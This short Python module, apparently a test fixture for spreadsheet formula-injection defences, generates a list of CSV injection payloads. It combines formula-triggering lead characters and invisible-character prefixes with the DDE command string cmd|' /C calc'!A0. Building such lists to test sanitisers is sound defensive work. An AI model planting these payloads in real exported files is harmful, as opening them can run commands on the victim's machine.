"""Texts that a spreadsheet would take for a formula."""

LEADS = ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\u2212"]
BEFORE = ["", " ", "   ", "\u00a0", "\u3000", "\u200b", "\ufeff", "'", "\x01", "\u2003 "]
PAYLOADS = [f"{before}{lead}cmd|' /C calc'!A0" for before in BEFORE for lead in LEADS]
